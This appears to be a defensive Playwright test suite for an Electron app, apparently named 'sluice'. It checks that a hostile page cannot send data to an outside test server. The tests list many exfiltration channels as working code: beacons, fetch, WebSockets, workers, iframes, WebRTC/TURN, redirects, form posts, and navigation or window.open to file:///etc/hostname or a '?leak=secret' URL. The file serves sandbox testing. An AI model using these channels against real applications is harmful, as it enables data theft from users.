/** The walls behind the first one: an attacker's page without our policy tries every way out. */
import type { Page } from "playwright/test";
import { electronBinary } from "../../scripts/electron.mjs";
import { besiege, nobodyCame } from "./attacker.ts";
import { expect } from "./fixture.ts";
import { type Outside, test } from "./outside.ts";

test.beforeEach(({ sluice, page }) => besiege(sluice, page));

test("no request leaves: not from the page, not from what it loads", async ({ page, outside }) => {
  await page.evaluate(async (url) => {
    const add = (tag: string, attributes: Record<string, string>): void => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    };
    navigator.sendBeacon(`${url}/beacon`, "x");
    void fetch(`${url}/fetch`, { mode: "no-cors" }).catch(() => {});
    void fetch(`${url}/keepalive`, { mode: "no-cors", keepalive: true }).catch(() => {});
    new WebSocket(`${url.replace("http", "ws")}/socket`);
    new EventSource(`${url}/events`);
    for (const tag of ["img", "script", "iframe", "embed", "video", "audio", "track", "frame"])
      add(tag, { src: `${url}/${tag}` });
    for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "manifest", "icon"])
      add("link", { rel, href: `${url}/${rel}`, as: "script" });
    add("object", { data: `${url}/object` });
    add("a", { href: "#", ping: `${url}/ping`, id: "ping" });
    document.getElementById("ping")?.click();
    add("style", {});
    const sheet = document.querySelector("style");
    if (sheet)
      sheet.textContent = `@import "${url}/import.css"; body { background: url(${url}/background) }`;
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.textContent = JSON.stringify({
      prefetch: [{ source: "list", urls: [`${url}/speculated`] }],
    });
    document.body.append(rules);
  }, outside.url);
  await nobodyCame(page, outside);
});

const attack = (page: Page, { url }: Outside): Promise<void> =>
  page.evaluate((to) => {
    void fetch(`${to}/fetch`, { mode: "no-cors" }).catch(() => {});
    new WebSocket(`${to.replace("http", "ws")}/socket`);
  }, url);

test("without the rule on requests the proxy that leads nowhere holds alone", async ({
  sluice,
  page,
  outside,
}) => {
  await sluice.evaluate(({ session }) =>
    session.fromPartition("window").webRequest.onBeforeRequest(null),
  );
  await attack(page, outside);
  await nobodyCame(page, outside);
});

test("without both the same attack gets through, so it is they that hold", async ({
  sluice,
  page,
  outside,
}) => {
  await sluice.evaluate(async ({ session }) => {
    const own = session.fromPartition("window");
    own.webRequest.onBeforeRequest(null);
    await own.setProxy({ mode: "direct" });
  });
  await attack(page, outside);
  await expect.poll(() => outside.hits.toSorted()).toEqual(["GET /fetch", "upgrade /socket"]);
});

test("no worker and no frame of any kind has a way out of its own", async ({ page, outside }) => {
  await page.evaluate(async (url) => {
    const body = `fetch("${url}/inner", { mode: "no-cors" }); new WebSocket("${url.replace("http", "ws")}/inner")`;
    const blob = (type: string, text: string): string =>
      URL.createObjectURL(new Blob([text], { type }));
    for (const source of [
      blob("text/javascript", body),
      `data:text/javascript,${encodeURIComponent(body)}`,
      `app://sluice/worker.js?body=${encodeURIComponent(body)}`,
    ])
      try {
        new Worker(source);
        new SharedWorker(source);
      } catch {
        // Refused at once is as good.
      }
    navigator.serviceWorker
      ?.register(`app://sluice/sw.js?body=${encodeURIComponent(body)}`)
      .catch(() => {});
    const html = `<script>${body}</script><img src="${url}/framed">`;
    for (const source of [
      blob("text/html", html),
      `data:text/html,${encodeURIComponent(html)}`,
      `app://sluice/?body=${encodeURIComponent(html)}`,
      "about:blank",
    ]) {
      const frame = document.createElement("iframe");
      frame.src = source;
      document.body.append(frame);
    }
    const written = document.createElement("iframe");
    written.srcdoc = html;
    document.body.append(written);
  }, outside.url);
  await nobodyCame(page, outside);
});

test("no peer is to learn this machine's addresses", async ({ sluice }) => {
  const policies = await sluice.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getWebRTCIPHandlingPolicy()),
  );
  expect(policies).toEqual(["disable_non_proxied_udp"]);
});

/** Both ways over TCP: plain, and as it would be inside TLS. */
const meetPeer = (page: Page, turn: string): Promise<void> =>
  page.evaluate(async (url) => {
    const urls = [url, url.replace("turn:", "turns:")];
    const iceServers = [{ urls, username: "what", credential: "carries" }];
    const peer = new RTCPeerConnection({ iceServers });
    peer.createDataChannel("out");
    await peer.setLocalDescription();
  }, turn);

test("no connection is made for a peer either, which no rule on requests is asked about", async ({
  page,
  outside,
}) => {
  await meetPeer(page, outside.turn);
  await nobodyCame(page, outside);
});

test("without the proxy that leads nowhere the peer is met, so it is that which holds", async ({
  sluice,
  page,
  outside,
}) => {
  await sluice.evaluate(({ session }) =>
    session.fromPartition("window").setProxy({ mode: "direct" }),
  );
  await meetPeer(page, outside.turn);
  await expect.poll(() => outside.hits).toContain("turn");
});

// The policy is Electron's to hold: Chromium alone cannot be told for one page.
if (electronBinary() !== undefined)
  test("no packet leaves for a peer", async ({ page, outside }) => {
    await page.evaluate(async (urls) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls }] });
      peer.createDataChannel("out");
      await peer.setLocalDescription();
    }, outside.stun);
    await nobodyCame(page, outside);
  });

test("the window stays where it is, whatever leads elsewhere", async ({ page, outside }) => {
  const before = page.url();
  for (const html of [
    `<meta http-equiv="refresh" content="0;url=${outside.url}/refresh">`,
    `<form action="${outside.url}/form" method="post"><input name="a"></form><script>document.forms[0].submit()</script>`,
    `<a id="go" href="${outside.url}/link">x</a><script>go.click()</script>`,
    `<script>location.assign("${outside.url}/assign")</script>`,
    `<script>top.location = "file:///etc/hostname"</script>`,
    `<script>location = "mailto:a@example.com"</script>`,
    `<script>location = URL.createObjectURL(new Blob(["x"], { type: "text/html" }))</script>`,
  ]) {
    await page.evaluate((text) => {
      // Parsed anew, so that scripts in it run.
      document.open();
      document.write(`<!doctype html><title>Attack</title><body>${text}`);
      document.close();
    }, html);
    await page.waitForTimeout(150);
    expect([html, page.url()]).toEqual([html, before]);
  }
  await nobodyCame(page, outside);
});

test("no window opens, and the browser is given no address of the page's choice", async ({
  sluice,
  page,
  outside,
}) => {
  const opened = await page.evaluate((url) => {
    const form = document.createElement("form");
    form.action = `${url}/form`;
    form.method = "post";
    form.target = "_blank";
    document.body.append(form);
    form.submit();
    return [
      window.open(`${url}/open`),
      window.open("about:blank"),
      window.open("app://sluice/"),
      window.open("file:///etc/hostname"),
      window.open("https://dash.cloudflare.com/?leak=secret"),
    ];
  }, outside.url);
  expect(opened).toEqual([null, null, null, null, null]);
  const count = await sluice.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length);
  expect(count).toBe(1);
  if (sluice.kind === "stand-in")
    expect(await sluice.evaluate(({ host }) => host.opened)).toEqual([]);
  await nobodyCame(page, outside);
});

test("links of ours open one at a time, however often a page asks", async ({ sluice, page }) => {
  test.skip(sluice.kind === "electron", "A test must not open pages in the person's browser.");
  await page.evaluate(() => {
    for (let times = 0; times < 40; times += 1) window.open("https://docs.openclaw.ai/");
  });
  const opened = () => sluice.evaluate(({ host }) => host.opened);
  await expect.poll(opened).toEqual(["https://docs.openclaw.ai/"]);
});

test("no dialog of a page's making comes up", async ({ sluice, page }) => {
  if (sluice.kind === "stand-in") {
    const asked = await sluice.evaluate(({ host }) =>
      host.windows.map(({ _options }) => _options.webPreferences?.disableDialogs),
    );
    expect(asked).toEqual([true]);
  } else {
    // One that came up would wait for a person.
    const answers = await page.evaluate(() => [typeof alert("x"), confirm("x")]);
    expect(answers).toEqual(["undefined", false]);
  }
});
